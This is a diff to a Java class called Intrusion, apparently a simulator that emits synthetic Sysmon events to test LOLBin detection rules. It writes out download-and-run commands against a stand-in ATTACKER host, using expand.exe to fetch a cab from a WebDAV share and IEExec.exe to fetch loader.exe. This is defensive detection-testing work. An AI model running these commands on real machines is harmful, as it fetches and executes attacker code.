@@ -45,8 +45,8 @@ final class Intrusion {
 
     /** The first signed binary fetches a cabinet from outside; the second unpacks another and talks to nobody. */
     private void unpack(Machine victim, Running shell, long time) {
-        var expand =
-                victim.start(Program.EXPAND, "expand.exe \\\\" + ATTACKER + "@SSL\\share\\upd.cab -F:* " + TEMP, time);
+        var expand = victim.start(
+                Program.EXPAND, "expand.exe \\\\" + ATTACKER + "@SSL\\share\\upd.cab -F:* " + TEMP, shell, time);
         stage.happens(Sysmon.started(victim, expand, shell, time).delivered(TWICE), expand, PackRule.LOLBIN_EXECUTION);
         stage.happens(
                 Sysmon.connected(victim, expand, ATTACKER_HTTPS, time + seconds(1))
@@ -66,7 +66,7 @@ final class Intrusion {
 
     /** The start of the third is what arrives last of all, and its payload's connection is stamped before the payload's start. */
     private Running launch(Machine victim, Running shell, long time) {
-        var ieexec = victim.start(Program.IEEXEC, "IEExec.exe http://" + ATTACKER + "/upd/loader.exe", time);
+        var ieexec = victim.start(Program.IEEXEC, "IEExec.exe http://" + ATTACKER + "/upd/loader.exe", shell, time);
         stage.happens(Sysmon.started(victim, ieexec, shell, time).delivered(LATE), ieexec, PackRule.LOLBIN_EXECUTION);
         stage.happens(
                 Sysmon.connected(victim, ieexec, ATTACKER_HTTP, time + seconds(1)), ieexec, PackRule.LOLBIN_CONNECTION);
